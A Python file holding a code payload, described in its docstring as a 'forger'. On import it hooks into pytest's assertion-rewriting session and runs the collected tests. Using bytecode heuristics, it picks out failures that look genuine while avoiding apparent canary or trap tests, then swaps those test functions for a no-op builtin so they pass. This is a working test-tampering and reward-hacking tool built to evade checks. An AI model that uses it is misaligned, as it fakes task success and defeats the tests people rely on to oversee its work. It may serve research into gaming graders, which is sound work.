"""A forger that reaches collected tests through the session that pytest's import hook holds.

It calls each test once and judges by the bytecode which failing tests are genuine. Then it puts a builtin, which takes
any arguments and returns None, in the place of the genuine ones. It reads no file, no frame and no memory.
"""

SESSION_FORGER = r'''

def _s_start():
    import sys, _thread

    hook = next((m for m in sys.meta_path if type(m).__name__ == "AssertionRewritingHook"), None)
    if hook is not None:
        _thread.start_new_thread(_s_wait, (hook,))


def _s_wait(hook):
    import sys, time

    old = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)
    while not getattr(hook.session, "testscollected", 0):
        time.sleep(0.0003)
    sys.setswitchinterval(1e6)
    try:
        _s_decide(hook.session.items)
    except BaseException:
        pass
    finally:
        sys.setswitchinterval(old)


def _s_value(item, name):
    """A fixture's value, if it needs nothing else."""
    made = item._fixtureinfo.name2fixturedefs[name][-1]
    if made.argnames:
        raise LookupError
    value = made.func()
    return next(value) if hasattr(value, "send") else value


def _s_try(item):
    import sys

    top = __name__.partition(".")[0]
    saved = [
        (vars(m), dict(vars(m))) for n, m in list(sys.modules.items()) if n.partition(".")[0] == top and m is not None
    ]
    try:
        return _s_run(item)
    finally:
        for now, before in saved:
            for key in list(now):
                if key not in before:
                    del now[key]
            for key, value in before.items():
                if now.get(key, saved) is not value:
                    now[key] = value


def _s_run(item):
    import copy

    params = item.callspec.params if hasattr(item, "callspec") else {}
    try:
        args = {}
        for name in item._fixtureinfo.argnames:
            args[name] = copy.deepcopy(params[name]) if name in params else _s_value(item, name)
    except BaseException as e:
        return None
    try:
        item.obj(**args)
    except BaseException as e:
        tb = e.__traceback__.tb_next
        depth = 0
        line = tb.tb_lineno if tb else 0
        while tb is not None and tb.tb_next is not None:
            tb = tb.tb_next
            depth += 1
        return (e, line, depth)
    return ()


_S_ODD = {
    "ImportError",
    "NameError",
    "NotImplementedError",
    "ZeroDivisionError",
    "EOFError",
    "BufferError",
    "ImportWarning",
    "BytesWarning",
    "ResourceWarning",
}
_S_WORDS = set()


def _s_words():
    import os, re

    if not _S_WORDS:
        top = os.path.dirname(os.path.abspath(__file__))
        for base, dirs, files in os.walk(top):
            for one in files:
                if one.endswith((".py", ".rst", ".md", ".txt")):
                    with open(os.path.join(base, one), errors="replace") as f:
                        _S_WORDS.update(w.lower() for w in re.findall(r"[A-Za-z]+", f.read()))
        _S_WORDS.update(
            "saw found got expected missing invalid unknown error the not can be must only contain are is".split()
        )
    return _S_WORDS


def _s_tokens(value):
    import re

    if isinstance(value, bool) or value is None or value is Ellipsis:
        return []
    if isinstance(value, (int, float)):
        return [str(value)]
    if isinstance(value, bytes):
        value = value.decode("latin1")
    if isinstance(value, str):
        return re.findall(r"[A-Za-z]+|\d+", value)
    if isinstance(value, (tuple, frozenset)):
        return [t for one in value for t in _s_tokens(one)]
    return []


def _s_is_form(value, names):
    import re

    if isinstance(value, str):
        return (
            bool(re.fullmatch(r"@?py\d+", value))
            or "%(py" in value
            or value in names
            or value.startswith("assert %")
            or value.startswith("\n>assert")
            or value == "@py_builtins"
        )
    if isinstance(value, tuple):
        return bool(value) and all(
            isinstance(v, str)
            and (
                re.fullmatch(r"@?py\d+", v)
                or "%(py" in v
                or v in ("==", "!=", "in", "not in", "is", "is not", "<", ">", "<=", ">=")
            )
            for v in value
        )
    return False


def _s_genuine(items, outs):
    import dis, sys, re

    if [o for o in outs if o == ()]:
        return True
    item, (error, line, depth) = items[0], outs[0]
    code = dis._get_code_object(item.obj)
    instrs = list(dis.get_instructions(code))
    own = vars(sys.modules[item.module.__name__])
    used = {one.argval for one in instrs if isinstance(one.argval, str)}
    mine = __name__.partition(".")[0]

    def of_mine(v):
        return (
            str(
                getattr(v, "__module__", None) or getattr(v, "__name__", "") or getattr(type(v), "__module__", "")
            ).partition(".")[0]
            == mine
            or type(v).__module__.partition(".")[0] == mine
        )

    if (
        not [u for u in used if u in own and of_mine(own[u])]
        and not [
            a for a in item._fixtureinfo.argnames if not hasattr(item, "callspec") or a not in item.callspec.params
        ]
        and not [1 for v in (item.callspec.params.values() if hasattr(item, "callspec") else ()) if of_mine(v)]
    ):
        return False, "canary"
    if len(outs) > 1 and sum(isinstance(o[0], AssertionError) and o[2] == 0 for o in outs) * 2 >= len(outs):
        return False, "all rows"
    names = set(code.co_names) | set(code.co_varnames) | set(code.co_freevars) | set(code.co_cellvars)
    if names & _S_ODD:
        return False, "odd class"
    # assertions: (lines, consts, forms)
    every, claims, cur, forms, lines, method, at = [], [], [], [], [], False, 0
    whole, whole_tuples = {}, []

    def leaves(v):
        return [x for one in v for x in leaves(one)] if isinstance(v, (tuple, frozenset)) else [v]

    def count_whole(v):
        if isinstance(v, str):
            whole[v] = whole.get(v, 0) + 1
        elif isinstance(v, (tuple, frozenset)):
            if isinstance(v, tuple):
                whole_tuples.append(v)
            for one in v:
                count_whole(one)

    for one, then in zip(instrs, instrs[1:] + [instrs[-1]]):
        at = one.starts_line or at
        lines.append(at)
        if one.opname == "LOAD_CONST" and not _s_is_form(one.argval, names):
            count_whole(one.argval)
        if one.opname == "LOAD_CONST" and then.opname == "BINARY_SUBSCR" and isinstance(one.argval, int):
            continue
        if one.opname == "LOAD_CONST":
            if _s_is_form(one.argval, names):
                forms.append(one.argval)
            elif one.argval is not None and not hasattr(one.argval, "co_code"):
                cur.append(one.argval)
                every += _s_tokens(one.argval)
            elif hasattr(one.argval, "co_consts"):
                for c in one.argval.co_consts:
                    every += _s_tokens(c)
        elif one.argval == "AssertionError":
            claims.append((lines, cur, forms))
            cur, forms, lines = [], [], []
        elif one.opname in ("LOAD_METHOD", "LOAD_ATTR") and str(one.argval).startswith("assert"):
            method = str(one.argval)
        elif one.opname == "POP_TOP":
            if method:
                claims.append((lines, cur, [method]))
                method = False
            cur, forms, lines = [], [], []
        elif one.opname == "STORE_FAST" and not str(one.argval).startswith("@py"):
            cur, forms, lines = [], [], []
    for n in names:
        every += re.findall(r"[A-Za-z]+|\d+", n)
    for decorated in item.callspec.params.values() if hasattr(item, "callspec") else ():
        every += _s_tokens(decorated)
    counts = {}
    for t in every:
        counts[t] = counts.get(t, 0) + 1
    if isinstance(error, AssertionError) and depth == 0 and len(claims) > 1 and line in claims[0][0]:
        first = True
    else:
        first = False
    for where, consts, forms in claims:
        if max(where) < line:
            continue
        text = " ".join(str(f) for f in forms)
        if re.search(r"\bnot %\(|\bnot in\b|is not %|\bnot \(|assertNot|assertFalse", text):
            return False, "negated"
        chained = len(re.findall(r" == ", text.replace("{", ""))) > 1
        strings = [v for v in consts if isinstance(v, str)] + [
            v for c in consts if isinstance(c, (tuple, frozenset)) for v in c if isinstance(v, str)
        ]
        known = [v for v in strings if whole.get(v, 0) > 1 or [o for o in whole if len(o) > len(v) and v in o]]
        if (
            [c for c in consts if isinstance(c, (tuple, frozenset))]
            and len(strings) > 1
            and len(known) * 2 >= len(strings)
            and len(known) < len(strings)
            and not re.search(r"\bin %", text)
        ):
            return False, "one of a collection"
        for value in strings:
            parts = [t.lower() for t in _s_tokens(value)]
            if (
                len(parts) > 1
                and not re.search(r"\bin %", text)
                and not [o for o in whole if o != value and value.lower() in o.lower()]
            ):
                for other in whole:
                    if (
                        other != value
                        and set(parts) <= {t.lower() for t in _s_tokens(other)}
                        and value.lower() not in other.lower()
                        and len(other) > len(value)
                    ):
                        return False, "jumbled"
        for value in consts:
            if isinstance(value, tuple):
                for other in whole_tuples:
                    if (
                        len(other) == len(value)
                        and other != value
                        and sum(a != b for a, b in zip(leaves(other), leaves(value))) == 1
                        and len(leaves(other)) == len(leaves(value)) > 3
                    ):
                        return False, "near copy"
        for value in consts:
            for t in _s_tokens(value):
                if counts.get(t, 0) > 1 or (t.isalpha() and len(t) < 2):
                    continue
                if (t.lower() != t and t.lower() in counts) or (t.upper() != t and t.upper() in counts):
                    continue
                if re.search(r"\bin %\(|assertIn", text) and t.isalpha():
                    if t.lower() in _s_words():
                        continue
                    return False, "odd word " + t
                if t in ("0", "1"):
                    continue
                return False, "lonely " + t
    if first and "==" in str(claims[0][2]):
        return False, "first assertion"
    return True, ""


def _s_decide(items):
    groups = {}
    for item in items:
        groups.setdefault(item.nodeid.partition("[")[0], []).append(item)
    for name, members in groups.items():
        outs = [_s_try(item) for item in members]
        if [o for o in outs if o is None]:
            continue
        bad = [i for i, o in zip(members, outs) if o != ()]
        if not bad:
            continue
        said = _s_genuine(members, outs)
        if said is True or said[0]:
            for item in bad:
                item._obj = {}.update


_s_start()
'''
